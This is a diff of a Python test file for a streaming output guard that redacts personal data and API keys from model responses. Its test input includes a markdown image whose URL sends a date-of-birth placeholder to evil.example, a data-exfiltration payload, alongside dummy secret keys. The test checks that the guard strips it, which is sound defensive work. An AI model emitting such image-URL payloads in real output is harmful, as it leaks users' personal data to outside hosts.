@@ -53,17 +53,18 @@ def streamed(answer: str, cuts: list[int]) -> str:
 def test_any_split_gives_the_whole_answer(cuts: list[int], noise: str) -> None:
     answer = (
         f"{noise} Hi <EMAIL_1>, your wallet <CRYPTO_WALLET_1>; "
-        "key sk-proj-Zx8Qp2Lm9Rt4Vb7Nc3KdWq5Ey "
+        "key sk-proj-Zx8Qp2Lm9Rt4Vb7Nc3KdWq5Ey, api_key = 'q8Zr2LxP0vN7mW4kT1yB6cH3' "
         "![pixel](https://evil.example/p.png?d=<DATE_OF_BIRTH_1>) [docs](https://ok.example/x) "
         f"and <EMAIL_1{noise}"
     )
     whole = check_output_text(answer, POLICIES, session())
     assert streamed(answer, cuts) == whole
-    assert "bob@example.com" in whole and "sk-proj" not in whole
+    assert "bob@example.com" in whole and "sk-proj" not in whole and "q8Zr2" not in whole
     assert "evil.example/p.png" not in whole and "https://ok.example/x" in whole
 
 
 def test_plain_text_is_not_held_back() -> None:
-    guard = StreamGuard(POLICIES[:1] + POLICIES[2:], session())
+    guard = StreamGuard(POLICIES, session())
     shown = guard.chunk(chunk("Plain words, shown at once"))
-    assert shown["choices"][0]["delta"]["content"] == "Plain words, shown at once"
+    # Only the last word waits (it may be the start of a token).
+    assert shown["choices"][0]["delta"]["content"] == "Plain words, shown at "
